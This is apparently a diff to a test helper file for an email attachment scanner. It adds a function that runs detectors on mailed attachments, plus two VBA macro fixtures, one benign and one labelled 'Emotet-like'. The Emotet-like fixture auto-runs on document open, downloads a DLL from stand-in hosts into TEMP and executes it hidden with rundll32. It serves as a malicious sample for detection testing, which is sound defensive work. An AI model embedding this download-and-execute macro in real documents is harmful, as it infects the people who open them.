@@ -534,3 +534,51 @@ def encrypt_ooxml(plain: bytes, password: str) -> bytes:
     out = io.BytesIO()
     OOXMLFile(io.BytesIO(plain)).encrypt(password, out)
     return out.getvalue()
+
+
+# ---------------------------------------------------------------- running detectors the rspamd way: message in, findings out
+
+
+def office_findings(detectors, attachments: list[tuple[str, bytes]], body: str = "Please see the attachment.\n",
+                    password_sources=()) -> list:
+    """Mail the attachments, parse the message, run `detectors` in order (as the registry does)."""
+    from kakuri.detect.base import ScanContext
+    from kakuri.parse.mime import parse_message
+
+    from tests.builders import make_message
+
+    message = parse_message(make_message(body=body, attachments=attachments))
+    ctx = ScanContext(password_sources=list(password_sources))
+    return [finding for detector in detectors for finding in detector.check(message, ctx)]
+
+
+def symbols_of(findings) -> set[str]:
+    return {finding.symbol for finding in findings}
+
+
+EMOTET_LIKE_MODULES = {
+    "ThisDocument": "Private Sub Document_Open()\n    Module1.Fetch\nEnd Sub\n",
+    "Module1": (
+        'Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" '
+        "(ByVal a As LongPtr, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As LongPtr) As Long\n"
+        "Public Sub Fetch()\n"
+        '    Dim hosts As Variant: hosts = Split("http://198.51.100.7/load/a1/,https://cdn.bad-host.test/wp/x2/", ",")\n'
+        "    Dim h As Variant\n"
+        "    For Each h In hosts\n"
+        '        If URLDownloadToFile(0, h, Environ("TEMP") & "\\\\r.dll", 0, 0) = 0 Then Exit For\n'
+        "    Next\n"
+        '    CreateObject("WScript.Shell").Run "rundll32 " & Environ("TEMP") & "\\\\r.dll,Control_RunDLL", 0\n'
+        "End Sub\n"
+    ),
+}
+
+BUSINESS_MODULES = {
+    "Module1": (
+        "Sub FormatReport()\n"
+        "    Dim r As Long\n"
+        "    For r = 2 To 100\n"
+        '        Cells(r, 4).Value = Cells(r, 2).Value * Cells(r, 3).Value\n'
+        "    Next\n"
+        "End Sub\n"
+    ),
+}
